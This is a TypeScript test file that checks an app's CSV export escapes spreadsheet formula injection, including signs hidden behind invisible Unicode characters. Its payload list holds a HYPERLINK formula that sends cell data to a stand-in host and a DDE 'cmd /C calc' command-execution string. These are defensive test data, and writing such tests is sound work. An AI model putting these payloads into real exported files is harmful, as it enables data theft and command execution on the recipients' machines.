/** What is exported is opened in Excel: whatever a stranger wrote into a name, no cell of it is calculated. */
import { globSync, readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { csvText, safeCell } from '#platform/sheet-export.ts';
import { cellsFromText } from '#platform/sheet-text.ts';

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const UNSEEN = [
  '',
  ' ',
  '\u00A0',
  '\u0000',
  '\t',
  '\r',
  '\n',
  '\u200B',
  '\u202E',
  '\u2066',
  '\uFEFF',
];
const HARM = [
  ...UNSEEN.flatMap((before) =>
    SIGNS.flatMap((sign) => [
      `${before}${sign}HYPERLINK("http://x.invalid?"&A1,"Xem")`,
      `Lò Văn Ké;${before}${sign}cmd|' /C calc'!A0`,
      `Lò Văn Ké,${before}${sign}1+1`,
      `Lò Văn Ké\t${before}${sign}1+1`,
      `Lò Văn Ké\n${before}${sign}1+1`,
    ]),
  ),
  '=1+1";=1+1',
  '"=1+1',
  '","=1+1","',
  '";"=1+1',
  '\u0000',
  '\t',
  '\r',
  '\n',
];
const HONEST = ['Lò Thị Mỷ', 'K7-000123', 'chậm lương, thiếu 2 ngày', "O'Hara", '1 = 1', ''];

/** Reads as strict programs do: quotes count only at the beginning of a cell. */
const parsed = (csv: string, separator: string): readonly (readonly string[])[] => {
  const text = csv.replace(/^\uFEFF/, '');
  const rows: string[][] = [[]];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const one = text.charAt(at);
    if (isQuoted) {
      if (one === '"' && text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else if (one === '"') isQuoted = false;
      else cell += one;
    } else if (one === '"' && cell === '') isQuoted = true;
    else if (one === separator || one === '\r' || one === '\n') {
      rows.at(-1)!.push(cell);
      cell = '';
      if (one !== separator) rows.push([]);
    } else cell += one;
  }
  return rows;
};

/** What a sheet calculates: a sign at the beginning, behind what it throws away. */
const isFormula = (cell: string): boolean =>
  // eslint-disable-next-line no-control-regex
  /^[\s"\u0000-\u001F\u200B-\u200F\u202A-\u202E\u2060-\u206F\uFEFF]*[=+\-@＝＋－＠]/.test(cell);

test.each([',', ';', '\t'])('opened with the separator %j no cell is a formula', (separator) => {
  const csv = csvText([['Dòng', 'Họ tên'], ...HARM.map((name, at) => [at, name])]);
  const cells = parsed(csv, separator).flat();
  expect(cells.length).toBeGreaterThan(HARM.length);
  expect(cells.filter(isFormula)).toEqual([]);
});

test('reopened it is the same table: a quote before what would be calculated, and nothing else', () => {
  const csv = csvText([...HARM, ...HONEST].map((name, at) => [at, name]));
  const rows = parsed(csv, ',').filter((row) => row.length > 1);
  expect(rows.map(([, name]) => name)).toEqual([...HARM, ...HONEST].map(safeCell));
  expect(HONEST.map(safeCell)).toEqual(HONEST);
  expect(HARM.filter((name) => safeCell(name) === name)).toEqual([]);
  expect(safeCell('=1+1')).toBe("'=1+1");
  expect(safeCell('a;=1')).toBe("a;'=1");
});

test('the reader of the app itself finds every row and every name again', () => {
  const names = HARM.map(safeCell).filter((name) => name.trim() !== '');
  const rows = cellsFromText(csvText(names.map((name, at) => [at, name])), 10_000);
  expect(rows.map(([, name]) => name)).toEqual(names);
});

test('a sum stays a number, below nothing too; a number in a text is a text', () => {
  expect(csvText([[-25_000, '-25.000']])).toBe(`\uFEFF-25000,"'-25.000"\r\n`);
});

test('no file leaves the app but as a sheet written so, a backup, a sealed file to be carried, or a picture', () => {
  const sources = globSync('src/**/*.{ts,tsx}').map((path) => ({
    path: path.replaceAll('\\', '/'),
    text: readFileSync(path, 'utf8'),
  }));
  const saying = (what: RegExp): readonly string[] =>
    sources.flatMap(({ path, text }) => (what.test(text) ? path : [])).sort();
  expect(saying(/\.download =|download=\{/)).toEqual([
    'src/platform/share-file.ts',
    'src/platform/sheet-save.ts',
  ]);
  expect(saying(/\bcsvText\(/)).toEqual(['src/platform/sheet-save.ts']);
  expect(saying(/\bshareFile\(/)).toEqual([
    'src/app/taken-away-bar.tsx',
    'src/features/dues/receipt-hand-on.tsx',
    'src/features/end-of-day/send-part.tsx',
    'src/features/relay/use-relay.ts',
  ]);
});
